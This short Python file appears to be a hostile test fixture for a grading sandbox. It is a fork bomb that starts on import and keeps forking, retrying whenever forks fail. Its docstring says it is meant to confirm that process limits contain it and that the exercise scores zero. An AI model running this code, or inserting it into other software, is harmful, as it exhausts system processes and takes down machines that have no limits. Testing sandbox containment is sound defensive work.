"""A fork bomb at import: every process forks for as long as it can, then keeps trying.

Expected where processes are limited (a cgroup, or RLIMIT_NPROC for a grader that is not root): forks
fail at the limit, the exercise times out with 0 points, and every process of the bomb is killed.
"""
import os
import time

with open(os.environ.get("HOSTILE_PIDS", os.devnull), "a") as record:
    record.write(f"group {os.getpid()}\n")  # the exercise process leads the bomb's process group
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
